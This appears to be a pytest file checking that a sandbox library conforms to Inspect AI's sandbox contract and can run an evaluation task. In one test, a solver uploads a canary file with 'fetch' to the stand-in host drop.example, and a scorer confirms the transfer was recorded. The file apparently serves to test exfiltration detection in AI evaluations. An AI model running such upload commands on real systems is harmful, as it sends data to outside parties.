"""The sandbox as a provider of Inspect: Inspect's own conformance suite, and a task that runs in it."""

from __future__ import annotations

import importlib.util
import inspect
import os
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from sandbox_fixture import Box, needs_sandbox

from auditkit.behaviour.offers import offered, records
from auditkit.behaviour.sandbox.services import Sink
from auditkit.behaviour.sandbox.stage import File, Limits, OutsideHost, StageSpec
from auditkit.errors import SandboxError

if importlib.util.find_spec("inspect_ai") is None and not os.environ.get("AUDITKIT_NO_SKIPS"):
    pytest.skip("inspect-ai is not installed", allow_module_level=True)

from inspect_ai.util import SandboxUnavailableError, SandboxUserUnsupportedError, sandbox
from inspect_ai.util._sandbox import self_check

from auditkit.behaviour.provider import Stage

RULES = {name: rule for name, rule in vars(self_check).items() if name.startswith("test_")}
# There is one user, and asking for another is refused.
EXCEPT = ("test_exec_as_user",)


@pytest.fixture(scope="module")
def box() -> Iterator[Box]:
    with Box(StageSpec(limits=Limits(output_bytes=10 << 20))) as opened:
        yield opened


@pytest.fixture(scope="module")
def environment(box: Box) -> Any:
    return Stage(box.sandbox)


@pytest.mark.parametrize("name", sorted(RULES))
def test_it_keeps_inspects_contract(name: str, box: Box, environment: Any) -> None:
    if name in EXCEPT:
        with pytest.raises(SandboxUserUnsupportedError):
            box.wait(RULES[name](environment))
        return
    assert list(inspect.signature(RULES[name]).parameters) == ["sandbox_env"]
    box.wait(RULES[name](environment))


def test_a_dead_sandbox_is_unavailable() -> None:
    needs_sandbox()
    with Box() as box:
        dead = Stage(box.sandbox)
        box.wait(box.sandbox.close())
        with pytest.raises(SandboxUnavailableError, match="closed"):
            box.wait(dead.exec(["true"]))


def test_a_task_runs_on_stages_and_its_log_tells_nothing_of_them(tmp_path: Path) -> None:
    from inspect_ai import Task, eval
    from inspect_ai.dataset import Sample
    from inspect_ai.model import ModelOutput, get_model
    from inspect_ai.scorer import Score, Scorer, Target, accuracy, scorer
    from inspect_ai.solver import Generate, Solver, TaskState, solver

    needs_sandbox()

    def make(metadata: Mapping[str, str]) -> StageSpec:
        return StageSpec(
            files={"/srv/canary": File(content=f"canary-{metadata['number']}".encode())},
            outside=(OutsideHost(name="drop.example", address="203.0.113.7", direct=True),),
            services=(Sink(),),
        )

    @solver
    def take_it_out() -> Solver:
        async def solve(state: TaskState, generate: Generate) -> TaskState:
            result = await sandbox().exec(["fetch", "-T", "/srv/canary", "http://drop.example/"])
            assert result.success
            return state

        return solve

    @scorer(metrics=[accuracy()])
    def arrived() -> Scorer:
        async def score(state: TaskState, target: Target) -> Score:
            happened = records(sandbox())
            return Score(
                value=float(
                    [r.detail["size_bytes"] for r in happened if r.kind == "transfer"] == [8]
                )
            )

        return score

    with offered(make) as stages:
        task = Task(
            dataset=[Sample(input="go", id=i, metadata={"number": str(i)}) for i in range(3)],
            solver=take_it_out(),
            scorer=arrived(),
            sandbox=stages,
        )
        model = get_model("mockllm/model", custom_outputs=[ModelOutput()])
        (log,) = eval(task, model=model, display="none", log_dir=str(tmp_path), log_format="json")
    assert log.status == "success", log.error
    assert log.results is not None
    assert log.results.scores[0].metrics["accuracy"].value == 1.0
    (written,) = tmp_path.glob("*.json")
    assert "canary-1" not in written.read_text()
    (log,) = eval(task, model=model, display="none", log_dir=str(tmp_path), fail_on_error=False)
    assert log.samples is not None
    assert all("offered" in sample.error.message for sample in log.samples if sample.error)
    assert log.status == "error" or all(sample.error for sample in log.samples)


def test_what_is_no_stage_is_refused() -> None:
    with pytest.raises(SandboxError, match="got object"):
        records(object())
